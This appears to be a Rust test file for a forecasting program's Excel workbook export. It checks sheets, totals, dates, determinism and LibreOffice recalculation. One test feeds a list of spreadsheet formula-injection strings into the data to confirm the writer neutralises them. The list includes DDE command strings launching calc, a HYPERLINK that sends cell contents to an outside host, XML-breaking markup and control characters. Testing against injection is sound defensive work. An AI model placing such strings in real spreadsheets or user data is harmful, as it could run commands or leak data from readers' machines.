//! The workbook for finance officers, read back as a spreadsheet reads it.

#[path = "common/evidence.rs"]
mod evidence;

use std::collections::BTreeSet;
use std::io::Cursor;
use std::path::Path;
use std::process::Command;

use calamine::{Data, Range, Reader, Xlsx};
use workcast::analysis::{Facts, Forecast, Influence, PlaceForecast, Reference, influences};
use workcast::ensemble::run::{Settings, run_alone};
use workcast::model::Reconciliation;
use workcast::report::{RunFacts, Subject, workbook};
use workcast::scenario::{InForce, Scenario, reconcile::reconcile};

const SHEETS: [&str; 11] = [
    "About",
    "Summary",
    "Monthly cash",
    "Calendar",
    "Claims",
    "Owed at year end",
    "Cost and income",
    "Cost lines",
    "Assumptions",
    "Reconciliation",
    "Dictionary",
];

/// What a spreadsheet might run, follow or stumble over.
const HOSTILE: [&str; 12] = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "=HYPERLINK(\"http://x.example?a=\"&A1,\"open\")",
    "{=1+1}",
    "</c><c><f>1+1</f><v>2</v></c>&quot;",
    "\u{202e}=1+1\u{200b}",
    "_x003D_1+1' ]:*?/\\[",
];

/// A run with all that its workbook is written from.
struct Run {
    scenario: Scenario,
    forecast: Forecast,
    values: Vec<InForce>,
    reconciliation: Vec<Reconciliation>,
    influences: Vec<Influence>,
    facts: RunFacts,
}

impl Run {
    /// Of a scenario that comes with the program.
    fn of(name: &str, replicates: u64) -> Self {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("scenarios");
        let scenario = Scenario::read(&folder.join(name)).unwrap();
        let settings = Settings {
            seed: 1,
            replicates: Some(replicates),
            threads: None,
            chunk: 32,
            memory: 1 << 28,
        };
        let done = run_alone(&scenario.programme, &settings, &mut |_| false).unwrap();
        let results = done.columns.unwrap();
        let like = scenario.reference_class.iter();
        let like = like.map(|(name, ratio)| Reference { name: name.clone(), ratio: *ratio });
        let (title, question) = (scenario.title.clone(), scenario.question.clone());
        let facts = Facts::new(&scenario.programme, title, question, like.collect());
        let forecast = Forecast::new(&results, facts).unwrap().with_months(&results).unwrap();
        Run {
            forecast,
            values: scenario.in_force(),
            reconciliation: reconcile(&scenario),
            influences: influences(&results).unwrap(),
            facts: RunFacts {
                run: Some("k3v9q2".to_owned()),
                workcast: "0.1.0".to_owned(),
                created: "2026-11-23T18:00:00Z".to_owned(),
                title: scenario.title.clone(),
                hash: scenario.hash().to_owned(),
                seed: 1,
                replicates,
                ..RunFacts::default()
            },
            scenario,
        }
    }

    fn bytes(&self) -> Vec<u8> {
        workbook(&Subject {
            scenario: &self.scenario,
            values: &self.values,
            forecast: &self.forecast,
            run: &self.facts,
            asked: None,
            precision: None,
            reconciliation: &self.reconciliation,
            influences: &self.influences,
        })
        .unwrap()
    }

    fn book(&self) -> Book {
        Book::of(self.bytes())
    }

    /// A place as a row of the workbook names it.
    fn place(&self, option: &str, place: &str) -> &PlaceForecast {
        let option = self.forecast.options.iter().find(|known| known.name == option).unwrap();
        option.place(Some(place).filter(|name| *name != "Whole programme")).unwrap()
    }
}

/// A workbook that has been read back.
struct Book {
    sheets: Vec<(String, Range<Data>, Range<String>)>,
    names: Vec<(String, String)>,
}

impl Book {
    fn of(bytes: Vec<u8>) -> Self {
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
        let sheets = book.sheet_names().into_iter().map(|name| {
            let cells = book.worksheet_range(&name).unwrap();
            let formulas = book.worksheet_formula(&name).unwrap();
            (name, cells, formulas)
        });
        let sheets = sheets.collect();
        Book { sheets, names: book.defined_names().to_vec() }
    }

    fn cells(&self, sheet: &str) -> &Range<Data> {
        &self.sheets.iter().find(|known| known.0 == sheet).unwrap().1
    }

    /// Every formula: its sheet, where it stands, and what it is.
    fn formulas(&self) -> Vec<(&str, (u32, u32), &str)> {
        let mut all = Vec::new();
        for (name, _, formulas) in &self.sheets {
            let (row, column) = formulas.start().unwrap_or_default();
            for (r, c, formula) in formulas.used_cells().filter(|used| !used.2.is_empty()) {
                all.push((&name[..], (row + r as u32, column + c as u32), &formula[..]));
            }
        }
        all
    }

    fn number(&self, sheet: &str, at: (u32, u32)) -> Option<f64> {
        match self.cells(sheet).get_value(at) {
            Some(Data::Float(value)) => Some(*value),
            Some(Data::Int(value)) => Some(*value as f64),
            _ => None,
        }
    }

    fn text(&self, sheet: &str, at: (u32, u32)) -> String {
        self.cells(sheet).get_value(at).map(ToString::to_string).unwrap_or_default()
    }

    /// The row of a table's headings: the first with something in its third column.
    fn header(&self, sheet: &str) -> u32 {
        (1..20).find(|&row| !self.text(sheet, (row, 2)).is_empty()).unwrap()
    }

    /// Every text of the book.
    fn texts(&self) -> BTreeSet<&str> {
        let cells = self.sheets.iter().flat_map(|sheet| sheet.1.used_cells());
        let mut texts = BTreeSet::new();
        for (_, _, cell) in cells {
            if let Data::String(text) = cell {
                texts.insert(&text[..]);
            }
        }
        texts
    }
}

/// The cells of `D7:D9`, or of `D7` alone.
fn cells_of(range: &str) -> Vec<(u32, u32)> {
    let cell = |text: &str| {
        let digits = text.find(|c: char| c.is_ascii_digit()).unwrap();
        let letters = text[..digits].bytes();
        let column = letters.fold(0, |sum, letter| sum * 26 + u32::from(letter - b'A') + 1) - 1;
        (text[digits..].parse::<u32>().unwrap() - 1, column)
    };
    let (first, last) = range.split_once(':').unwrap_or((range, range));
    let ((top, left), (bottom, right)) = (cell(first), cell(last));
    (top..=bottom).flat_map(|row| (left..=right).map(move |column| (row, column))).collect()
}

/// What the engine says of a total, by the heading of its column.
fn engine(place: &PlaceForecast, sheet: &str, heading: &str) -> f64 {
    let mean = |metric: &str| place.statistic(metric).map_or(0.0, |s| s.mean.value);
    match (sheet, heading) {
        (_, "Cost: mean") => mean("cost"),
        (_, "Receipts: mean" | "Income: mean") => mean("income"),
        (_, "Income less cost: mean") => mean("net"),
        (_, "Basic: mean") => mean("income_basic") + mean("disallowed") + mean("repaid"),
        (_, "Participant: mean") => mean("income_participant"),
        (_, "All claimed: mean") => {
            mean("income") + mean("disallowed") + mean("repaid") - mean("income_central")
        }
        _ => panic!("a total over {heading} on {sheet}"),
    }
}

/// Holds every total of a run to the cells above it and to the engine; answers with how many.
fn totals(run: &Run) -> usize {
    let book = run.book();
    let mut held = 0;
    for (sheet, at, formula) in book.formulas() {
        let cached = book.number(sheet, at);
        if let Some(range) = formula.strip_prefix("SUM(").and_then(|f| f.strip_suffix(')')) {
            let cells = cells_of(range).into_iter();
            let sum: f64 = cells.filter_map(|at| book.number(sheet, at)).sum();
            assert!((sum - cached.unwrap()).abs() < 0.005, "{sheet} {at:?} {formula}");
            let option = book.text(sheet, (at.0, 0));
            let place = run.place(&option, &book.text(sheet, (at.0, 1)));
            let heading = book.text(sheet, (book.header(sheet), at.1));
            let engine = engine(place, sheet, &heading);
            assert!((sum - engine).abs() < 0.005, "{sheet} {heading} {option}: {sum}, {engine}");
            held += 1;
        }
        if formula.starts_with("IF(") {
            assert_eq!(book.text(sheet, at), "agrees with the engine", "{sheet} {at:?}");
        }
    }
    let about = book.formulas().into_iter().find(|formula| formula.0 == "About").unwrap();
    let checks = book.formulas().iter().filter(|formula| formula.2.starts_with("IF(")).count();
    assert_eq!(book.number("About", about.1), Some(checks as f64));
    held
}

#[test]
fn every_sheet_is_there_and_its_first_cell_is_its_title() {
    let book = Run::of("bury.toml", 32).book();
    let names: Vec<&str> = book.sheets.iter().map(|sheet| &sheet.0[..]).collect();
    assert_eq!(names, SHEETS);
    for name in SHEETS {
        assert!(!book.text(name, (0, 0)).is_empty(), "{name}");
    }
    let texts = book.texts();
    for said in ["k3v9q2", "Never add P10, P50, P90 or provisions.", "agrees with the engine"] {
        assert!(texts.iter().any(|text| text.contains(said)), "{said}");
    }
}

#[test]
fn totals_are_the_engines_to_the_penny() {
    let run = Run::of("bury.toml", 64);
    // Three options: cost and receipts, two years' cost, income and difference, lines, three claims.
    assert_eq!(totals(&run), 3 * (2 + 3 + 1 + 3));
}

#[test]
fn totals_of_many_localities_are_the_engines_to_the_penny() {
    let run = Run::of("gm-workwell.toml", 16);
    let count = totals(&run);
    evidence::note("workbook-totals", format!("{count} totals of ten localities"));
    assert_eq!(count, 3 * 11 * (2 + 3 + 1 + 3));
    let book = run.book();
    assert_eq!(book.sheets.len(), SHEETS.len());
    // The whole programme comes first where a reader begins.
    let first = (book.header("Summary") + 1, 0);
    assert_eq!(book.text("Summary", first), "Whole programme");
}

#[test]
fn what_was_before_the_first_day_is_part_of_the_totals() {
    let run = Run::of("bury-2026.toml", 16);
    assert!(run.scenario.programme.is_under_way());
    totals(&run);
    assert!(run.book().texts().iter().any(|text| text.starts_with("Before ")));
}

#[test]
fn what_is_left_of_a_cap_is_the_cap_less_what_was_claimed_under_it() {
    let book = Run::of("bury.toml", 16).book();
    let header = book.header("Claims");
    let column = |heading: &str| {
        (0..30).find(|&column| book.text("Claims", (header, column)) == heading).unwrap()
    };
    let number = |row: u32, column: u32| book.number("Claims", (header + 1 + row, column)).unwrap();
    // 60% of the whole for the programme; 40% of 30% at £800 and of the rest at £811 by year.
    let parts = [
        ("Basic", [259_756.32; 6], 0),
        ("Participant", [51_456.0, 51_456.0, 121_714.88, 121_714.88, 121_714.88, 121_714.88], 2),
    ];
    for (part, caps, new_year) in parts {
        let claimed = column(&format!("{part}: mean"));
        let left = column(&format!("{part}: left of cap"));
        for (claim, cap) in (0..).zip(caps) {
            assert_eq!(number(claim, column(&format!("{part}: cap"))), cap, "{part} {claim}");
            let since = if claim < new_year { 0 } else { new_year };
            let sum: f64 = (since..=claim).map(|row| number(row, claimed)).sum();
            assert!((number(claim, left) - (cap - sum)).abs() < 0.005, "{part} {claim}");
        }
    }
}

#[test]
fn dates_are_dates_and_money_is_numbers() {
    let run = Run::of("bury.toml", 16);
    let book = run.book();
    let is_date =
        |sheet: &str, at| matches!(book.cells(sheet).get_value(at), Some(Data::DateTime(_)));
    let first = book.header("Monthly cash") + 1;
    for month in 0..18 {
        assert!(is_date("Monthly cash", (first + month, 2)), "month {month}");
        assert!(book.number("Monthly cash", (first + month, 3)).is_some());
    }
    let first = book.header("Calendar") + 1;
    for claim in 0..6 {
        for column in [3, 4, 8, 9, 10, 11] {
            assert!(is_date("Calendar", (first + claim, column)), "claim {claim}, {column}");
        }
    }
    let Some(Data::DateTime(paid)) = book.cells("Calendar").get_value((first, 8)) else { panic!() };
    // Nothing is paid before 1 March 2025.
    assert_eq!(paid.as_f64(), 45_717.0);
}

#[test]
fn no_name_of_anything_becomes_a_formula_or_breaks_the_file() {
    let mut run = Run::of("gm-workwell.toml", 16);
    let plain = run.book();
    let hostile = |index: usize| HOSTILE[index % HOSTILE.len()].to_owned();
    for (index, locality) in run.scenario.programme.localities.iter_mut().enumerate() {
        locality.name = hostile(index);
    }
    for (index, option) in run.forecast.options.iter_mut().enumerate() {
        option.name = hostile(index + 10);
        for (index, place) in option.places.iter_mut().enumerate() {
            place.locality = place.locality.take().map(|_| hostile(index));
            let lines = place.metrics.iter_mut().map(|summary| &mut summary.metric.name);
            for line in lines.filter(|name| *name == "cost.Programme lead and returns") {
                *line = format!("cost.{}", hostile(index));
            }
        }
    }
    for (index, locality) in run.forecast.facts.localities.iter_mut().enumerate() {
        locality.name = hostile(index);
    }
    run.forecast.facts.title = hostile(0);
    run.forecast.facts.question = Some(hostile(7));
    for (index, value) in run.values.iter_mut().enumerate() {
        value.path = hostile(index);
        value.value = hostile(index + 1);
        value.source = Some(hostile(index + 2));
        value.owner = Some(hostile(index + 3));
        value.agreed_on = Some(hostile(index + 4));
        value.note = Some(hostile(index + 5).repeat(5_000));
    }
    for (index, figure) in run.reconciliation.iter_mut().enumerate() {
        figure.locality = Some(hostile(index));
        figure.source = Some(hostile(index + 1));
        figure.explanation = Some(hostile(index + 2));
    }
    let book = run.book();
    let places = |book: &Book| {
        let formulas = book.formulas();
        let ours = ["SUM(", "IF(ABS(", "COUNTIF("];
        let is_ours = |formula: &str| {
            ours.iter().any(|start| formula.starts_with(start))
                || formula
                    .chars()
                    .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || "+-:()".contains(c))
        };
        assert!(formulas.iter().all(|formula| is_ours(formula.2)));
        formulas.len()
    };
    assert_eq!(places(&book), places(&plain));
    let texts = book.texts();
    for shown in [
        "=1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "U+0009=1+1",
        "U+000D=1+1",
        "U+0000=1+1",
        "</c><c><f>1+1</f><v>2</v></c>&quot;",
        "U+202E=1+1U+200B",
    ] {
        assert!(texts.contains(shown), "{shown}");
    }
    let longest = texts.iter().map(|text| text.encode_utf16().count()).max();
    assert_eq!(longest, Some(32_767));
    // A print area has the same name on every sheet; ours are each other's nowhere.
    let ours = || book.names.iter().filter(|name| !name.0.starts_with("_xlnm"));
    let distinct: BTreeSet<String> = ours().map(|name| name.0.to_lowercase()).collect();
    assert_eq!(distinct.len(), ours().count());
}

#[test]
fn main_figures_and_tables_have_names() {
    let book = Run::of("bury.toml", 16).book();
    let named = |name: &str| book.names.iter().find(|known| known.0 == name).map(|known| &known.1);
    for name in ["Table_Monthly_cash", "Cost_In_house_Bury", "Provision_P80_Hybrid_Bury"] {
        assert!(named(name).is_some(), "{name} among {:?}", book.names);
    }
}

#[test]
fn the_same_run_gives_the_same_bytes_whenever_it_is_written() {
    let run = Run::of("bury.toml", 16);
    let first = run.bytes();
    std::thread::sleep(std::time::Duration::from_millis(1_100));
    assert!(first == run.bytes());
}

#[test]
fn a_run_without_claims_by_month_and_without_months_is_still_written() {
    let mut run = Run::of("bury.toml", 16);
    for place in run.forecast.options.iter_mut().flat_map(|option| &mut option.places) {
        place.monthly.clear();
        place.metrics.retain(|summary| summary.metric.name == "plans");
    }
    run.influences.clear();
    let book = run.book();
    assert_eq!(book.sheets.len(), SHEETS.len());
    assert!(
        book.formulas().iter().all(|formula| formula.0 == "About" || formula.2.starts_with('I'))
    );
    assert!(book.texts().iter().any(|text| text.starts_with("This run was made before claims")));
}

/// Tells LibreOffice to work out every formula of a file anew.
const RECALCULATE: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode"><value>0</value></prop></item>
</oor:items>"#;

#[test]
fn libreoffice_works_out_the_same_totals() {
    if Command::new("soffice").arg("--version").output().is_err() {
        println!("skipped: soffice is not installed");
        return;
    }
    let run = Run::of("bury.toml", 32);
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    std::fs::create_dir_all(at("profile/user")).unwrap();
    std::fs::write(at("profile/user/registrymodifications.xcu"), RECALCULATE).unwrap();
    std::fs::write(at("workbook.xlsx"), run.bytes()).unwrap();
    let profile = format!("-env:UserInstallation=file://{}", at("profile").display());
    let done = Command::new("soffice")
        .args(["--headless", &profile, "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir"])
        .arg(at("out"))
        .arg(at("workbook.xlsx"))
        .output()
        .unwrap();
    assert!(done.status.success(), "{done:?}");
    let theirs = Book::of(std::fs::read(at("out/workbook.xlsx")).unwrap());
    let ours = run.book();
    let formulas = ours.formulas();
    for &(sheet, at, formula) in &formulas {
        match (ours.number(sheet, at), theirs.number(sheet, at)) {
            (Some(a), Some(b)) => {
                assert!((a - b).abs() < 1e-6, "{sheet} {at:?} {formula}: {a}, {b}")
            }
            _ => assert_eq!(ours.text(sheet, at), theirs.text(sheet, at), "{sheet} {at:?}"),
        }
    }
    evidence::note("workbook-libreoffice", format!("{} formulas", formulas.len()));
    assert_eq!(theirs.formulas().len(), formulas.len());
}
